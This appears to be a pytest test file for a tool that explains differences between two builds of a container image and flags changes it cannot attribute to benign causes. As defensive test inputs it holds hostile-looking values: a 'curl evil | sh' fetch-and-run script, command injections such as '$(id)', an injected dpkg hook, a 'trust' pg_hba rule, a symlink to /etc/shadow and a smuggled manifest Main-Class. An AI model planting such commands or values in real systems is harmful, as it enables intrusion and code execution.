    assert told(one, other, vary=None).keys() == {"random_order_in_tarball"}


@pytest.mark.parametrize(
    ("links", "same", "passes"), [(2, True, True), (2, False, False), (1, False, True)]
)
def test_the_last_name_of_a_file_in_a_cpio_archive_says_what_it_holds(links, same, passes):
    some = [Member(n, b"x" if same else n.encode(), inode=7, links=links) for n in "ab"]
    found = told(archived(*some), archived(*some[::-1]), vary=None)
    assert found.keys() == ({"random_order_in_cpio_archive"} if passes else {"unexplained"})


def test_global_records_of_a_tar_archive_are_of_what_follows():
    def packed(before: int, time: int) -> bytes:
        record = b"12 uid=1000\n"
        head = tarfile.TarInfo("pax_global_header")
        head.type, head.size = tarfile.XGLTYPE, len(record)
        blocks = [head.tobuf(tarfile.USTAR_FORMAT) + record + bytes(512 - len(record))]
        for name in "ab":
            info = tarfile.TarInfo(name)
            info.mtime = time
            blocks.append(info.tobuf(tarfile.USTAR_FORMAT))
        return b"".join([*blocks[1 : before + 1], blocks[0], *blocks[before + 1 :], bytes(1024)])

    assert told(packed(0, 1), packed(0, 2), vary=None).keys() == {"timestamps_in_tarball"}
    found = told(packed(0, 1), packed(1, 2), vary=None)
    assert "members before it" in found["unexplained"]


HEAD = "Manifest-Version: 1.0\r\nMain-Class: Good\r\n"


@pytest.mark.parametrize(
    ("more", "hidden"),
    [
        ("Created-By: 17.0.2\r\n", False),
        ("Created-By: 17.0.\r\n 2\r\n", False),
        ("Created-By: 17.0.\r 2\r\n", False),
        ("Created-By: 17.0.2\rMain-Class: Evil\r\n", True),
        ("Created-By: 17.0.2\nMain-Class: Evil\r\n", True),
        ("Created-By: 17.0.2\r\n 3\r\nMain-Class: Evil\r\n", True),
        ("Main-Class: Evil\rCreated-By: 17.0.2\r\n", True),
    ],
)
def test_lines_of_a_manifest_end_where_java_ends_them(more: str, hidden: bool):
    one, other = (f"{HEAD}{text}\r\n".encode() for text in ("Created-By: 17.0.1\r\n", more))
    found = told(one, other, "META-INF/MANIFEST.MF", vary=None)
    assert "toolchain_in_java_jar_manifest" in found
    assert ("Evil" in found.get("unexplained", "")) is hidden
    assert ("unexplained" in found) is hidden


@pytest.mark.parametrize(
    ("left", "right", "moved"),
    [
        ("Built-By: u\nName: x\nY: 1\n", "Built-By: v\nName: x\nY: 1\n", False),
        ("Built-By: u\nName: x\nY: 1\n\n\n", "\nName: x\nY: 1\nBuilt-By: v\n\n", True),
        ("Built-By: u\nMain-Class: A\n", "Main-Class: A\nBuilt-By: v\n", True),
        ("Built-By: u\nName: x\n", "\nName: x\nBuilt-By: v\n", True),
        ("Built-By: u\n 2\nName: x\n", "Built-By: v\n 2\nName: x\n", False),
        ("Built-By: u\n\nName: x\n", "Built-By: v\nName: x\n", True),
    ],
)
def test_a_key_of_a_manifest_stands_where_it_stood(left: str, right: str, moved: bool):
    sides = (f"Manifest-Version: 1.0\n{text}".encode() for text in (left, right))
    found = told(*sides, "META-INF/MANIFEST.MF", vary=None)
    assert found.keys() >= {"user_in_java_jar_manifest"}
    assert ("unexplained" in found) is moved


@pytest.mark.parametrize("other", ["\n", "\n{}", "{\n"])
def test_an_empty_line_is_no_document(other: str):
    assert differ('{"a": 1}', other) == differ(other, '{"a": 1}') == UNEXPLAINED


# --- known places ------------------------------------------------------------------------------

PROGRAM = b"\x7fELF\2\1\1" + bytes(80)
PUBLIC = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA%s root@build\n"


def known(path: str, left: bytes, right: bytes, **more: object) -> set[str]:
    return slugs("known_path", case(left, right, path=path, **more))


@pytest.mark.parametrize(
    ("path", "one", "other"),
    [
        ("var/log/dpkg.log", b"2026-11-22 startup\n", b"2027-12-27 startup\n"),
        ("var/log/apt/history.log", b"", b"Start-Date: 2027-12-27\n"),
        ("var/log/apt/eipp.log.xz", lzma.compress(b"Request: 1\n"), lzma.compress(b"Request: 2\n")),
        ("var/log/wtmp", bytes(384), bytes(383) + b"\1"),
        ("var/cache/fontconfig/a.cache-8", b"\4\xfc\2\xfc\1", b"\4\xfc\2\xfc\2"),
        (
            "var/cache/ldconfig/aux-cache",
            b"glibc-ld.so.auxcache-1.0\1",
            b"glibc-ld.so.auxcache-1.0",
        ),
        ("etc/machine-id", b"a" * 32 + b"\n", b""),
        ("etc/ssh/ssh_host_ed25519_key.pub", PUBLIC % b"x", PUBLIC % b"y"),
        (
            "etc/ssh/ssh_host_rsa_key",
            PEM.format("OPENSSH PRIVATE KEY", "AAAA").encode(),
            PEM.format("OPENSSH PRIVATE KEY", "BBBB").encode(),
        ),
        (
            "etc/apt/apt.conf.d/01autoremove-kernels",
            b'APT::NeverAutoRemove\n{\n   "^linux-6$";\n};\n',
            b'APT::NeverAutoRemove\n{\n   "^linux-2$";\n};\n',
        ),
    ],
)
def test_a_known_place_explains_what_its_program_writes(path: str, one: bytes, other: bytes):
    for vary in (None, ("time",)):
        assert known(path, one, other, vary=vary), path
        for evil in (PROGRAM, b"#!/bin/sh\ncurl evil | sh\n"):
            assert known(path, one, evil, vary=vary) == set()
            assert known(path, evil, other, vary=vary) == set()


@pytest.mark.parametrize(
    ("path", "one", "other"),
    [
        ("var/log/dpkg.log", b"2026-11-22 startup\n", b"\0\1\2"),
        ("etc/ssh/ssh_host_ed25519_key.pub", PUBLIC % b"x", PUBLIC % b"y" + PUBLIC % b"z"),
        (
            "etc/apt/apt.conf.d/01autoremove-kernels",
            b'APT::NeverAutoRemove { "a"; };\n',
            b'APT::NeverAutoRemove { "b"; };\nDPkg::Post-Invoke { "evil"; };\n',
        ),
        (
            "var/lib/postgresql/15/main/pg_hba.conf",
            b"local all all peer\n",
            b"host all all trust\n",
        ),
        ("var/cache/man/mandb.sh", b"a\n", b"b\n"),
        (
            "etc/ssl/certs/0a1b2c3d.0",
            PEM.format("CERTIFICATE", "AAAA").encode(),
            PEM.format("CERTIFICATE", "BBBB").encode(),
        ),
    ],
)
def test_and_nothing_else(path: str, one: bytes, other: bytes):
    assert known(path, one, other) == set()


@pytest.mark.parametrize(
    "path",
    [
        "root/.gnupg/pubring.kbx",
        "etc/pacman.d/gnupg/pubring.gpg",
        "etc/ssl/certs/java/cacerts",
    ],
)
def test_whom_a_container_trusts_is_no_matter_of_places_in_two_images(path: str):
    assert known(path, b"\1", b"\2", vary=None) == set()
    assert known(path, b"\1", b"\2", vary=("time",)) != set()


def test_another_hash_of_a_password_is_random_in_two_runs_of_one_build_alone():
    left, right = (f"app:{{SSHA}}{one}6ph5Mm5Pz8GgiULbPgzG37mj9hHH82d\n" for one in "WX")
    assert slugs("text", case(left.encode(), right.encode())) == {"embeds_random_value"}
    assert slugs("text", case(left.encode(), b"app:\n")) == UNEXPLAINED
    assert differ(left, right) == UNEXPLAINED


def test_nor_is_a_password():
    line = "app:$y$j9T$abc./1${}:20779:0:99999:7:::\n"
    one, other = (line.format(c * 30).encode() for c in "ab")
    assert known("etc/shadow", one, other, vary=None) == set()
    assert known("etc/shadow", one, other) == {"random_salt_in_shadow"}


@pytest.mark.parametrize(
    ("path", "detail", "wanted"),
    [
        ("var/log/apt/term.log", None, {"apt_and_dpkg_logs"}),
        ("var/log/apt/su", "it can be executed: its mode is 4755", set()),
        ("tmp/x", None, {"temporary_files_left_behind"}),
        ("tmp/x", "it is a character device", set()),
        ("var/cache/man/x", "it is a symlink to /etc/shadow", set()),
        ("etc/ssl/certs/ssl-cert-snakeoil.pem", None, {"snakeoil_certificate"}),
        (
            "etc/ssl/certs/0a1b2c3d.0",
            "it is a symlink to ssl-cert-snakeoil.pem",
            {"snakeoil_certificate"},
        ),
        ("etc/ssl/certs/0a1b2c3d.0", "it is a symlink to /opt/evil.pem", set()),
        ("etc/ssl/certs/0a1b2c3d.0", None, set()),
    ],
)
def test_a_file_more_is_known_if_it_is_a_plain_one(path: str, detail: str | None, wanted: set[str]):
    for sides in (("present", None), (None, "present")):
        asked = of(Aspect.PRESENCE, *sides, path)
        found = replace(asked, difference=replace(asked.difference, detail=detail))
        assert slugs("known_path", found) == wanted
        # What one of two images has more was not looked into.
        asked = of(Aspect.PRESENCE, *sides, path, vary=None)
        strange = replace(asked, difference=replace(asked.difference, detail=detail))
        assert slugs("known_path", strange) == set()


@pytest.mark.parametrize("aspect", [Aspect.MODE, Aspect.OWNER, Aspect.KIND, Aspect.LINK])
def test_no_place_explains_who_may_do_what(aspect: Aspect):
    assert slugs("known_path", of(aspect, "0644", "4755", "var/log/dpkg.log")) == set()


def test_of_a_log_two_images_have_times_in_common_and_no_more(tmp_path: Path):
    line = "Start-Date: {}-01-01  00:00:00\nInstall: {}\n"
    place = a("var/log/apt/history.log", Aspect.CONTENT, "sha256:a", "sha256:b")

    def of_sides(word: str, scene: Scene) -> set[str]:
        sides = line.format(2023, "good").encode(), line.format(2024, word).encode()
        contents = contents_of(tmp_path, *sides)
        return {finding.cause.slug for finding in attribute([place], contents, scene)}

    assert of_sides("good", Scene()) == {"apt_and_dpkg_logs"}
    assert of_sides("evil", Scene()) == {"unexplained"}
    assert of_sides("evil", MOVED) == {"apt_and_dpkg_logs"}


@pytest.mark.parametrize(
    ("left", "right", "known"),
    [
        ("2023-11-14T22:13:20Z", "2023-11-14T22:13:21Z", True),
        ("2023-11-14T22:13:20.1Z", "2023-11-14T22:13:20.12Z", True),
        ("2023-11-14T22:13:20Z", "2023-11-14T22:13:20.000Z", False),
        ("2023-11-14T22:13:20Z", "2023-11-14T23:13:20+01:00", False),
        ("2023-11-14T22:13:20Z", None, False),
        ("2023-11-14T22:13:20Z", "2023-99-14T22:13:20Z", False),
        ("0001-01-01T00:00:00+14:00", "2023-11-14T22:13:20Z", True),
    ],
)
def test_another_time_of_creation_is_another_instant(left: str, right: str | None, known: bool):
    for sides in ((left, right), (right, left)):
        created = of(Aspect.CONFIG, *sides, "/config/created")
        wanted = {"creation_times_not_clamped"} if known else set()
        assert slugs("known_path", created) == wanted


def entry(kind: Kind, mode: int, link: str | None = None) -> Entry:
    return Entry(
        path="x",
        kind=kind,
        mode=mode,
        uid=0,
        gid=0,
        uname="",
        gname="",
        mtime=0,
        size=0,
        digest=None,
        link=link,
        device=None,
        xattrs=(),
        position=0,
        offset=0,
        stored=0,
    )


@pytest.mark.parametrize(
    ("one", "detail"),
    [
        (entry(Kind.FILE, 0o644), None),
        (entry(Kind.DIRECTORY, 0o755), None),
        (entry(Kind.FILE, 0o755), "it can be executed: its mode is 0755"),
        (entry(Kind.FILE, 0o4711), "it can be executed: its mode is 4711"),
        (entry(Kind.SYMLINK, 0o777, "a/b"), "it is a symlink to a/b"),
        (entry(Kind.FIFO, 0o644), "it is a fifo"),
    ],
)
def test_of_what_one_image_has_more_it_is_said_what_it_can_do(one: Entry, detail: str | None):
    for sides in ((one, None), (None, one)):
        (found,) = compare_change(0, Change(path="x", left=sides[0], right=sides[1], layers=(0, 0)))
        assert (found.aspect, found.detail) == (Aspect.PRESENCE, detail)


@pytest.mark.parametrize(
    ("path", "more", "wanted"),
    [
        ("etc/machine-id", "", {"machine_id"}),
        ("etc/machine", "", UNEXPLAINED),
        ("etc/machine-id", "x\n", UNEXPLAINED),
    ],
)
def test_what_is_checked_whole_leaves_nothing_to_be_explained(
    path: str, more: str, wanted: set[str], tmp_path: Path
):
    sides = "a1" * 16 + "\n", "b2" * 16 + "\n" + more
    contents = contents_of(tmp_path, *(side.encode() for side in sides))
    place = Difference(layer=0, path=path, aspect=Aspect.CONTENT, left="sha256:a", right="sha256:b")

    assert {found.cause.slug for found in attribute([place], contents, Scene())} == wanted


@pytest.mark.parametrize(
    ("path", "left", "right", "slug"),
    [
        ("config/Hostname", "0a1b2c3d4e5f", "f5e4d3c2b1a0", "container_id_in_config"),
        ("config/Hostname", "0a1b2c3d4e5f", "ci.example.org", None),
        ("config/Hostname", "", "$(id)", None),
        ("container", "a1" * 32, "b2" * 32, "container_id_in_config"),
        ("config/Labels/io.buildah.version", "1.28.2", "1.37.0-dev", "builder_version_in_label"),
        ("config/Labels/io.buildah.version", None, "1.28.2", "builder_version_in_label"),
        ("config/Labels/io.buildah.version", "1.28.2", "$(id)", None),
        ("config/Labels/io.buildah.version", "1.28.2", "1.28.2; id", None),
        ("config/Labels/io.buildah.version", "1.28.2", "/dev/shm/sh", None),
        ("moby.buildkit.buildinfo.v0", "eyJhIjoxfQ==", "$(id)", None),
        ("docker_version", "20.10.5+dfsg1", "24.0.7-0ubuntu4", "builder_version_in_label"),
        ("moby.buildkit.buildinfo.v0", "eyJhIjoxfQ==", "eyJhIjoyfQ==", "builder_version_in_label"),
    ],
)
def test_a_known_place_in_a_configuration_holds_what_its_builder_writes_there(
    path: str, left: str | None, right: str, slug: str | None
):
    sides = Aspect.CONFIG, left, right, f"/config/{path}"
    assert slugs("known_path", of(*sides, vary=None)) == ({slug} if slug else set())
    assert slugs("known_path", of(*sides))  # two runs of one build


def test_of_many_lines_each_is_indented_as_one_that_was_compared():
    def script(day: int, out: int = -1) -> str:
        made = f"go()  # {'of the generator ' * 5}updated 2024-01-0{day} 10:00:00"
        return "\n".join(["if it:", *(f"{'    ' * (n != out)}{made}" for n in range(9_000))])

    dated = {"captures_build_date"}
    assert differ(script(1), script(2), "srv/a.py") == dated
    for out in (5001, 5002, 5003):
        assert differ(script(1), script(2, out), "srv/a.py") == dated | UNEXPLAINED
